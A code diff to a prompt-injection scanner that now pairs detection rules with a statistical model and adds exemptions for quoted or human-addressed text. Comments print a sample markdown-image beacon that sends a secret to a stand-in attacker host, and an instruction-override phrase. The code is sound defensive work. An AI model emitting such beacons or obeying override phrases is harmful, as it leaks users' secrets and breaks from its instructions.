@@ -52,15 +52,16 @@ public final class InjectionScanner {
     }
 
     /**
-     * The standard rules backed by the statistical model ({@link InjectionModel}) on sentences no rule
-     * reported. Not the default: it did not meet the false-positive bound on held-out text (docs/safety.md).
+     * The rules without the statistical model ({@link InjectionModel}): what {@link #standard()} was before
+     * the fourth round of issue 11, for evaluations that compare the two (docs/safety.md).
      */
-    static InjectionScanner withModel() {
-        return new InjectionScanner(InjectionRules.standard(), InjectionModel.standard());
+    static InjectionScanner rulesOnly() {
+        return Holder.RULES_ONLY;
     }
 
     private static final class Holder {
-        static final InjectionScanner STANDARD = new InjectionScanner(InjectionRules.standard());
+        static final InjectionScanner STANDARD = new InjectionScanner(InjectionRules.standard(), InjectionModel.standard());
+        static final InjectionScanner RULES_ONLY = new InjectionScanner(InjectionRules.standard());
     }
 
     /**
@@ -93,6 +94,15 @@ public final class InjectionScanner {
             if (!phrase.ruleId().equals("markdown-image-beacon") && IntentRules.discussion(context,
                     context.sentenceAt(phrase.start()), phrase.start(), phrase.end())) {
                 continue;
+            }
+            if (phrase.ruleId().equals("markdown-image-beacon") && context.quotes().inCode(phrase.start())) {
+                continue; // `![x](https://attacker/?q=<secret>)` in a code span is shown, not rendered: it loads nothing
+            }
+            if (phrase.reason() == ReasonCode.INSTRUCTION_OVERRIDE && !context.sentences().isEmpty()) {
+                int s = context.sentenceAt(phrase.start());
+                if (Addressing.writersOwn(view, context.sentences().get(s)) && !IntentRules.addressed(context, s)) {
+                    continue; // "Please ignore the earlier instructions I sent": the writer's own words, to a person
+                }
             }
             if (phrase.ruleId().equals("hide-from-user") && !Addressing.namesTheAct(view, phrase.start(), phrase.end())
                     && !IntentRules.hidesAnAct(context, context.sentenceAt(phrase.start()))) {
@@ -156,7 +166,7 @@ public final class InjectionScanner {
             if (reported || sentence.end() - sentence.start() < 12) {
                 continue;
             }
-            InjectionModel.Verdict v = model.judge(context.text(), sentence.start(), sentence.end());
+            InjectionModel.Verdict v = model.judge(context.text(), sentence);
             if (v != null && !IntentRules.discussion(context, s, v.at(), v.at() + 1)) {
                 found.add(new Hit(v.reason(), MODEL_RULE, v.at(), v.at() + 1, rules.size() + 1));
             }
